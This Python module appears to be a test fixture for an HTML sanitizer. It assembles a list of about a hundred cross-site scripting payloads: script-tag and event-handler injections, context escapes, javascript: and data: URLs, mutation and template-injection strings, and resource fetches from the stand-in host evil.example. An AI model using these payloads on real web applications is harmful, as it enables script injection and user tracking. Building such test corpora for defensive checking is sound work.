"""A hundred texts that would run a script or fetch something, wherever text is taken for markup."""

from itertools import chain

_HIT = "window.hit=1"
_ELSEWHERE = "https://evil.example"
_TAGS = ("script", "SCRIPT", "ScRiPt", "scr\tipt", "script\n", "script/x", "script x=y")
_HANDLERS = (
    *("<img src=x onerror={0}>", "<svg onload={0}>", "<svg/onload={0}>", "<body onload={0}>"),
    *("<input autofocus onfocus={0}>", "<details open ontoggle={0}>", "<video src=x onerror={0}>"),
    *("<audio src=x onerror={0}>", "<object data=x onerror={0}>", "<marquee onstart={0}>"),
    *("<select autofocus onfocus={0}>", "<textarea autofocus onfocus={0}>", "<iframe onload={0}>"),
    *("<img src=x:x onerror\n={0}>", "<image href=x onerror={0}>", "<p onpointerover={0}>x</p>"),
    "<svg><animate onbegin={0} attributeName=x dur=1s>",
    "<svg><set onbegin={0} attributeName=x to=0>",
    "<style onload={0}></style>",
    "<link rel=stylesheet href=x onerror={0}>",
)
_ESCAPES = (
    *('"><svg onload={0}>', "'><svg onload={0}>", "--><svg onload={0}>", "]]><svg onload={0}>"),
    *("</textarea><svg onload={0}>", "</title><svg onload={0}>", "</script><svg onload={0}>"),
    *("</style><svg onload={0}>", "</template><svg onload={0}>", "</bdi><svg onload={0}>"),
    *("</mark><svg onload={0}>", "</blockquote><svg onload={0}>", "</dialog><svg onload={0}>"),
    *('" onmouseover={0} x="', "' onmouseover={0} x='", '" autofocus onfocus={0} x="'),
    *('" style="animation:x" onanimationstart={0} x="', "` onmouseover={0} x=`"),
)
_ADDRESSES = (
    *("javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "&#106;avascript:{0}"),
    "<a href=javascript:{0}>x</a>",
    "<a href='\x01javascript:{0}'>x</a>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<button formaction=javascript:{0}>x</button>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<object data=javascript:{0}></object>",
    "<embed src=javascript:{0}>",
    "<svg><a href=javascript:{0}><text y=9>x</text></a></svg>",
    "<math><mi href=javascript:{0}>x</mi></math>",
    "<iframe src='data:text/html,<script>parent.hit=1</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
)
_FETCHES = (
    *(
        "<img src={1}/x.png>",
        "<link rel=stylesheet href={1}/x.css>",
        "<script src={1}/x.js></script>",
    ),
    *("<style>@import '{1}/x.css';</style>", "<base href={1}/>", "<iframe src={1}></iframe>"),
    *(
        "<meta http-equiv=refresh content='0;url={1}'>",
        "<video poster={1}/x.png>",
        "<embed src={1}>",
    ),
    *("<p style='background:url({1}/x.png)'>", "<svg><image href={1}/x.png></svg>"),
    *("<link rel=prefetch href={1}>", "<link rel=preconnect href={1}>", "![x]({1}/x.png)"),
)
_TEMPLATES = (
    *("{{ 7*7 }}", "{% print(1) %}", "{{ self.__init__.__globals__ }}", "${window.hit=1}"),
    *(
        "<template><script>window.hit=1</script></template>",
        "{{constructor.constructor('hit=1')()}}",
    ),
    *("'-window.hit++-'", '"-window.hit++-"', "\\u003cimg src=x onerror=window.hit=1\\u003e"),
    *("＜script＞window.hit=1＜/script＞", "&lt;img src=x onerror=window.hit=1&gt;"),
    *(
        "%3Cscript%3Ewindow.hit=1%3C/script%3E",
        '<!--<img src="--><img src=x onerror=window.hit=1>">',
    ),
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=1>",
    "<svg><style><img src=x onerror=window.hit=1></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.hit=1>",
    "<x contenteditable onblur=window.hit=1 autofocus>x",
    "<details><summary onclick=window.hit=1>x</summary></details>",
    "<table background=javascript:window.hit=1><tr><td>x</table>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hit=1>#x'></svg>",
    "<dialog open onclose=window.hit=1><form method=dialog><button autofocus>x</button></form>",
    "<x onclick=window.hit=1 accesskey=x>x",
    "$1$&$`<img src=x onerror=window.hit=1>{count}{question}{title}",
    "a\u2028b\u2029<script>window.hit=1</script>",
)


def _filled() -> chain[str]:
    scripts = (f"<{tag}>{_HIT}</{tag.split()[0]}>" for tag in _TAGS)
    marked = (
        one.format(_HIT, _ELSEWHERE) for one in (*_HANDLERS, *_ESCAPES, *_ADDRESSES, *_FETCHES)
    )
    return chain(scripts, marked, _TEMPLATES)


PAYLOADS = tuple(dict.fromkeys(_filled()))
